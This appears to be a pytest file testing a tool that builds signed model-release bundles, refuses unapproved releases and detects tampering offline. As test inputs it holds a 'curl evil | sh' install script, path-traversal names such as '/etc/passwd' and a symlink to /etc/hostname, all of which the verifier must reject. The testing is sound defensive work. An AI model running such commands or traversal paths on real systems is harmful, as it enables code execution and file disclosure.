"""Release bundles: refused until gates and approvals hold; every tamper detected offline.

The request here is opened directly over artifacts written to the store
(the pipeline's own request stage is covered by the demo test), so the test
is about bundling and verification, not training.
"""

from __future__ import annotations

import base64
import hashlib
import json
import subprocess
import sys

import pytest

from stillroom.approvals import decide, open_request
from stillroom.release import BundleInvalid, ReleaseRefused, build_release, verify_release
from stillroom.users import unlock
from tests.people import setup_user

PASS = "correct horse battery"
PASSING = [{"gate": "fidelity", "passed": True, "value": 0.97, "threshold": 0.85, "message": "ok"}]


@pytest.fixture
def release_request(workspace):
    for name, roles in (("olga", ["operator"]), ("sam", ["security"]), ("lena", ["legal"])):
        setup_user(workspace, name, roles, PASS, actor="admin")
    store = workspace.artifacts
    files = {"hf/model.safetensors": store.put_bytes(b"\x00weights" * 100), "hf/config.json": store.put_json({"a": 1})}
    card = store.put_bytes(b"---\nlicense: apache-2.0\n---\n# Student\n")
    workspace.ledger().record("run.start", {"run_id": "run-1"}, actor="olga", run_id="run-1")
    subject = {"run_id": "run-1", "pipeline": "intents", "spec_digest": "s" * 64, "policy_digest": workspace.policy().digest,
               "teacher": {"name": "hf", "fingerprint": "t" * 64}, "data": {"source_fingerprint": "d" * 64},
               "student": {"files": files}, "model_card": card, "plugins": [], "gates": PASSING}
    return open_request(workspace, kind="release", subject=subject, initiator="olga",
                        policy_digest=workspace.policy().digest, run_id="run-1", gates=PASSING)


def approve_both(ws, request):
    for name in ("sam", "lena"):
        decide(ws, request.id, unlock(ws, name, PASS), decision="approve")


@pytest.fixture
def bundle(workspace, release_request, tmp_path):
    approve_both(workspace, release_request)
    out = tmp_path / "bundle"
    build_release(workspace, release_request.id, out, actor="olga")
    return out


def test_release_is_refused_without_approvals(workspace, release_request, tmp_path):
    with pytest.raises(ReleaseRefused, match="lacks approvals from: security, legal"):
        build_release(workspace, release_request.id, tmp_path / "b", actor="olga")
    decide(workspace, release_request.id, unlock(workspace, "sam", PASS), decision="approve")
    with pytest.raises(ReleaseRefused, match="lacks approvals from: legal"):
        build_release(workspace, release_request.id, tmp_path / "b", actor="olga")
    assert not (tmp_path / "b").exists()


def test_release_is_refused_when_a_gate_fails(workspace, release_request, tmp_path):
    failing = [{"gate": "worst_slice_drop", "passed": False, "value": 0.3, "threshold": 0.1, "message": "too big"}]
    request = open_request(workspace, kind="release", subject={**release_request.subject, "gates": failing},
                           initiator="olga", policy_digest=workspace.policy().digest, run_id="run-1", gates=failing)
    approve_both(workspace, request)
    with pytest.raises(ReleaseRefused, match="fails release gates without a signed waiver: worst_slice_drop"):
        build_release(workspace, request.id, tmp_path / "b", actor="olga")


def test_an_approved_release_bundle_verifies_offline(bundle, workspace):
    report = verify_release(bundle)
    assert report["ok"] and any("sam (security), lena (legal)" in c or "lena (legal), sam (security)" in c
                                for c in report["checks"])
    node = (bundle / "keys" / f"{workspace.node_key_name}.vkey").read_text().strip()
    assert verify_release(bundle, node_key=node)["ok"]
    assert (bundle / "student" / "hf" / "model.safetensors").read_bytes() == b"\x00weights" * 100


def test_model_signing_cli_accepts_the_student_signature(bundle):
    """The OpenSSF model-signing tool itself verifies the student (its elliptic-key mode)."""
    result = subprocess.run([sys.executable, "-m", "model_signing", "verify", "key", str(bundle / "student"),
                             "--signature", str(bundle / "student.sig"),
                             "--public_key", str(bundle / "keys" / "release-p256.pub")],
                            capture_output=True, text=True)
    assert result.returncode == 0, result.stdout + result.stderr


def test_pinning_another_node_key_fails(bundle, tmp_path):
    from stillroom import signing

    other = signing.verifier_key("x-node", signing.generate_key().public_key())
    with pytest.raises(BundleInvalid, match="not the pinned node key"):
        verify_release(bundle, node_key=other)


def test_the_bundle_directory_must_be_new(workspace, release_request, tmp_path):
    approve_both(workspace, release_request)
    out = tmp_path / "used"
    out.mkdir()
    (out / "x").write_text("x")
    from stillroom.errors import UsageError

    with pytest.raises(UsageError, match="is not empty"):
        build_release(workspace, release_request.id, out, actor="olga")


def rehash_manifest(bundle):
    """An attacker who edits a file also fixes the (unsigned) manifest: the signed checks must still catch it."""
    manifest = json.loads((bundle / "manifest.json").read_text())
    manifest["files"] = {name: hashlib.sha256((bundle / name).read_bytes()).hexdigest() for name in manifest["files"]}
    (bundle / "manifest.json").write_text(json.dumps(manifest))


def flip_byte(path, offset=10):
    data = bytearray(path.read_bytes())
    data[offset] ^= 0x01
    path.write_bytes(bytes(data))


def edit_json(path, change):
    value = json.loads(path.read_text())
    change(value)
    path.write_text(json.dumps(value))


def _edit_envelope_payload(envelope):
    statement = json.loads(base64.b64decode(envelope["payload"]))
    statement["predicate"]["comment"] = "approved, honest"
    envelope["payload"] = base64.b64encode(json.dumps(statement).encode()).decode()


def _edit_proof(proofs):
    proofs[0]["proof"][0] = "00" * 32 if proofs[0]["proof"] else proofs[0]["proof"]
    proofs[0]["leaf"] = base64.b64encode(b'{"kind":"forged"}').decode()


TAMPERS = {
    "weight byte": (lambda b: flip_byte(b / "student" / "hf" / "model.safetensors"), "student/hf/model.safetensors"),
    "model card": (lambda b: (b / "MODEL_CARD.md").write_text("# A different card\n"), "MODEL_CARD.md"),
    "provenance": (lambda b: edit_json(b / "provenance.dsse.json",
                                       lambda e: e.update(payload=base64.b64encode(b'{"_type": "x"}').decode())),
                   "provenance.dsse.json"),
    "approval": (lambda b: edit_json(next((b / "approvals").glob("*.dsse.json")), _edit_envelope_payload), "approvals"),
    "proof": (lambda b: edit_json(b / "ledger" / "proofs.json", _edit_proof), "ledger/proofs.json"),
    "checkpoint": (lambda b: (b / "ledger" / "checkpoint").write_text(
        (b / "ledger" / "checkpoint").read_text().replace("\n", "\n\n", 1)), "checkpoint"),
    "request subject": (lambda b: edit_json(b / "request.json", lambda r: r["subject"].update(pipeline="other")),
                        "request.json"),
    "policy": (lambda b: edit_json(b / "policy.json", lambda p: p["approvals"]["release"].update(
        required_roles=["security"])), "policy.json"),
}


@pytest.mark.parametrize("what", list(TAMPERS))
def test_tampering_is_detected_even_with_a_fixed_manifest(bundle, what):
    tamper, where = TAMPERS[what]
    tamper(bundle)
    with pytest.raises(BundleInvalid, match="manifest"):
        verify_release(bundle)
    rehash_manifest(bundle)
    with pytest.raises(BundleInvalid) as caught:
        verify_release(bundle)
    assert where in str(caught.value)


def test_a_removed_approval_is_detected(bundle):
    next((bundle / "approvals").glob("*.dsse.json")).unlink()
    manifest = json.loads((bundle / "manifest.json").read_text())
    manifest["files"] = {k: v for k, v in manifest["files"].items() if (bundle / k).exists()}
    (bundle / "manifest.json").write_text(json.dumps(manifest))
    with pytest.raises(BundleInvalid, match=r"approvals/.*\.dsse\.json: missing, but the signed provenance binds it"):
        verify_release(bundle)


def test_cli_release_and_verify(workspace, release_request, tmp_path):
    approve_both(workspace, release_request)
    run = lambda *a: subprocess.run([sys.executable, "-m", "stillroom.cli", *a], capture_output=True, text=True)
    out = tmp_path / "cli-bundle"
    made = run("release", release_request.id, "--out", str(out), "--workspace", str(workspace.root))
    assert made.returncode == 0, made.stderr
    unpinned = run("release", "verify", str(out))
    assert unpinned.returncode == 1 and "--node-key" in unpinned.stderr
    checked = run("release", "verify", str(out), "--workspace", str(workspace.root))
    assert checked.returncode == 0 and "node key: matches the pinned key" in checked.stdout
    node = out / "keys" / f"{workspace.node_key_name}.vkey"
    assert run("release", "verify", str(out), "--node-key", str(node)).returncode == 0
    assert run("release", "verify", str(out), "--trust-bundle-key").returncode == 0
    flip_byte(out / "student" / "hf" / "model.safetensors")
    broken = run("release", "verify", str(out), "--trust-bundle-key")
    assert broken.returncode == 1 and broken.stderr.startswith("error: student/hf/model.safetensors")
    # a path that is no bundle at all is bad input (2), not a bundle that failed its checks (1)
    for path, reason in ((tmp_path / "nope", "no such"), (out / "manifest.json", "is a file, not a")):
        wrong = run("release", "verify", str(path), "--trust-bundle-key")
        assert (wrong.returncode, wrong.stderr.strip()) == (2, f"error: {path}: {reason} bundle directory")
    (tmp_path / "linked").symlink_to(out)
    linked = run("release", "verify", str(tmp_path / "linked"), "--trust-bundle-key")
    assert linked.returncode == 1 and "is not a bundle directory" in linked.stderr  # refused as tampering


def test_a_failing_gate_released_only_when_every_approver_signs_a_waiver(workspace, release_request, tmp_path):
    from stillroom.errors import UsageError

    failing = [{"gate": "worst_slice_drop", "passed": False, "value": 0.3, "threshold": 0.1, "message": "too big"}]
    request = open_request(workspace, kind="release", subject={**release_request.subject, "gates": failing},
                           initiator="olga", policy_digest=workspace.policy().digest, run_id="run-1", gates=failing)
    with pytest.raises(UsageError, match="only failing gates of an approval can be waived"):
        decide(workspace, request.id, unlock(workspace, "sam", PASS), decision="approve", waive=["fidelity"])
    decide(workspace, request.id, unlock(workspace, "sam", PASS), decision="approve", waive=["worst_slice_drop"])
    decide(workspace, request.id, unlock(workspace, "lena", PASS), decision="approve")
    with pytest.raises(ReleaseRefused, match="without a signed waiver: worst_slice_drop"):
        build_release(workspace, request.id, tmp_path / "b", actor="olga")

    second = open_request(workspace, kind="release", subject={**release_request.subject, "gates": failing, "n": 2},
                          initiator="olga", policy_digest=workspace.policy().digest, run_id="run-1", gates=failing)
    for name in ("sam", "lena"):
        decide(workspace, second.id, unlock(workspace, name, PASS), decision="approve", waive=["worst_slice_drop"])
    out = tmp_path / "waived"
    build_release(workspace, second.id, out, actor="olga")
    report = verify_release(out)
    assert any("worst_slice_drop failed and were waived" in c for c in report["checks"])


def test_a_request_without_a_run_proves_only_its_own_entries(workspace, release_request, tmp_path):
    request = open_request(workspace, kind="release", subject={**release_request.subject, "run_id": None},
                           initiator="olga", policy_digest=workspace.policy().digest, run_id=None, gates=PASSING)
    approve_both(workspace, request)
    out = tmp_path / "no-run"
    build_release(workspace, request.id, out, actor="olga")
    proofs = json.loads((out / "ledger" / "proofs.json").read_text())
    entries = [json.loads(base64.b64decode(p["leaf"])) for p in proofs]
    kinds = [e["kind"] for e in entries]
    # Its own entries, and the trust of its approvers only (their keys and grants), never the whole ledger.
    assert "run.start" not in kinds
    assert sorted(e["payload"]["user"] for e in entries if e["kind"] == "user.added") == ["lena", "sam"]
    assert {"request.opened", "approval.decision", "release.bundle"} <= set(kinds)
    assert verify_release(out)["ok"]


# -- issue 11: what the bundle proves, and what it never touches ------------------------------------------


def _refix_manifest(bundle):
    manifest = json.loads((bundle / "manifest.json").read_text())
    manifest["files"] = {str(p.relative_to(bundle)): hashlib.sha256(p.read_bytes()).hexdigest()
                         for p in sorted(bundle.rglob("*")) if p.is_file() and p.name != "manifest.json"}
    (bundle / "manifest.json").write_text(json.dumps(manifest))


def test_an_approvers_key_and_role_must_be_proven_in_the_bundle(bundle, workspace):
    """Keys in keys/ prove nothing: without the proofs of sam's key introduction and grant, verify refuses."""
    proofs = json.loads((bundle / "ledger" / "proofs.json").read_text())
    kinds = {json.loads(base64.b64decode(p["leaf"]))["kind"] for p in proofs}
    assert {"key.added", "user.added", "policy.adopted", "release.bundle"} <= kinds
    kept = [p for p in proofs if json.loads(base64.b64decode(p["leaf"]))["kind"] not in ("key.added", "user.added")]
    (bundle / "ledger" / "proofs.json").write_text(json.dumps(kept))
    _refix_manifest(bundle)
    with pytest.raises(BundleInvalid, match="approvals: the key 'sam-k1' that signed a decision is not proven"):
        verify_release(bundle, node_key=workspace.ledger().verifier_keys()[workspace.node_key_name])


def test_a_file_added_to_the_bundle_and_its_manifest_is_refused(bundle):
    (bundle / "INSTALL.sh").write_text("curl evil | sh\n")
    _refix_manifest(bundle)
    with pytest.raises(BundleInvalid, match="INSTALL.sh: is not among the files the signed provenance binds"):
        verify_release(bundle)


@pytest.mark.parametrize("name", ["/etc/passwd", "../../etc/hostname", "student/../../../etc/hostname"])
def test_manifest_names_outside_the_bundle_are_refused_and_never_hashed(bundle, name):
    manifest = json.loads((bundle / "manifest.json").read_text())
    manifest["files"][name] = "0" * 64
    (bundle / "manifest.json").write_text(json.dumps(manifest))
    outside = hashlib.sha256((bundle / name).read_bytes()).hexdigest() if (bundle / name).is_file() else None
    with pytest.raises(BundleInvalid, match="is not a plain relative path inside the bundle") as caught:
        verify_release(bundle)
    assert outside is None or outside[:12] not in str(caught.value)


def test_a_symlink_in_the_bundle_is_refused(bundle):
    (bundle / "student" / "hostname").symlink_to("/etc/hostname")
    with pytest.raises(BundleInvalid, match="student/hostname: is a symbolic link"):
        verify_release(bundle)


def test_a_bundle_re_signed_with_another_model_signing_key_is_refused(bundle, tmp_path):
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from model_signing import signing as model_signing

    key = ec.generate_private_key(ec.SECP256R1())
    pem = tmp_path / "other.pem"
    pem.write_bytes(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                      serialization.NoEncryption()))
    (bundle / "student.sig").unlink()
    model_signing.Config().use_elliptic_key_signer(private_key=pem).sign(bundle / "student", bundle / "student.sig")
    (bundle / "keys" / "release-p256.pub").write_bytes(key.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo))
    _refix_manifest(bundle)
    with pytest.raises(BundleInvalid, match="keys/release-p256.pub: is not the model-signing key the signed provenance binds"):
        verify_release(bundle)


def test_a_bundle_under_a_policy_below_the_floor_verifies_only_when_accepted(workspace, tmp_path):
    """The policy was adopted (here by the bootstrap), so the release is legitimate; an auditor still sees it
    is below the floor and must accept its digest explicitly; verify prints the rule it accepted."""
    from tests.people import adopt_policy

    path = workspace.policy_dir / "approvals.yaml"
    path.write_text(path.read_text().replace("required_roles: [security, legal]", "required_roles: [operator]", 1)
                    .replace("initiator_excluded: true", "initiator_excluded: false", 1))
    adopt_policy(workspace)
    setup_user(workspace, "olga", ["operator"], PASS, actor="admin")
    store = workspace.artifacts
    files = {"hf/model.safetensors": store.put_bytes(b"\x00weights" * 100)}
    workspace.ledger().record("run.start", {"run_id": "run-1"}, actor="olga", run_id="run-1")
    digest = workspace.policy().digest
    subject = {"run_id": "run-1", "pipeline": "intents", "spec_digest": "s" * 64, "policy_digest": digest,
               "teacher": {"name": "hf", "fingerprint": "t" * 64}, "data": {"source_fingerprint": "d" * 64},
               "student": {"files": files}, "model_card": None, "plugins": [], "gates": PASSING}
    request = open_request(workspace, kind="release", subject=subject, initiator="olga", policy_digest=digest,
                           run_id="run-1", gates=PASSING)
    decide(workspace, request.id, unlock(workspace, "olga", PASS), decision="approve")
    out = tmp_path / "weak"
    build_release(workspace, request.id, out, actor="olga")
    run = lambda *a: subprocess.run([sys.executable, "-m", "stillroom.cli", "release", "verify", str(out), *a],
                                    capture_output=True, text=True)
    refused = run("--trust-bundle-key")
    assert refused.returncode == 1 and "below the floor of two distinct people" in refused.stderr
    assert f"--accept-policy {digest}" in refused.stderr
    accepted = run("--trust-bundle-key", "--accept-policy", digest)
    assert accepted.returncode == 0, accepted.stderr
    assert "the initiator may approve their own request" in accepted.stdout
    assert "initiator olga NOT excluded by this policy" in accepted.stdout


def test_release_refuses_when_the_ledger_does_not_verify(workspace, release_request, tmp_path):
    approve_both(workspace, release_request)
    from sqlalchemy import text

    with workspace.engine.begin() as c:  # a DBA rewrites one entry's bytes
        c.execute(text("UPDATE ledger_entries SET leaf = :leaf WHERE seq = 1"), {"leaf": b'{"kind":"forged"}'})
    out = tmp_path / "b"
    with pytest.raises(ReleaseRefused, match="the ledger does not verify .*entry 1"):
        build_release(workspace, release_request.id, out, actor="olga")
    assert not out.exists() and not (tmp_path / ".b.partial").exists()


def test_decision_rows_the_ledger_never_recorded_stay_out_of_the_bundle(workspace, release_request, tmp_path):
    """A DBA adds a decision row (a name meant to escape the bundle's directory): not ledgered, not bundled."""
    from datetime import datetime, timezone

    from stillroom import approvals, signing
    from stillroom.artifacts import canonical_json
    from stillroom.store.models import Decision

    approve_both(workspace, release_request)
    key = signing.generate_key()
    statement = approvals.decision_statement(request=release_request, reviewer="sam", role="security",
                                             decision="approve", comment="", time=datetime.now(timezone.utc),
                                             policy_digest=release_request.policy_digest)
    with workspace.session() as s:
        s.add(Decision(request_id=release_request.id, user="../../../escaped", roles=["security"], decision="approve",
                       request_digest=release_request.digest, policy_digest=release_request.policy_digest,
                       envelope=signing.dsse_sign(canonical_json(statement), approvals.PAYLOAD_TYPE, key, "sam-k99")))
        s.commit()
    out = tmp_path / "bundle"
    build_release(workspace, release_request.id, out, actor="olga")
    assert sorted(p.name for p in (out / "approvals").iterdir()) == ["00-sam.dsse.json", "01-lena.dsse.json"]
    assert not list(tmp_path.rglob("*escaped*"))
    assert verify_release(out)["ok"]
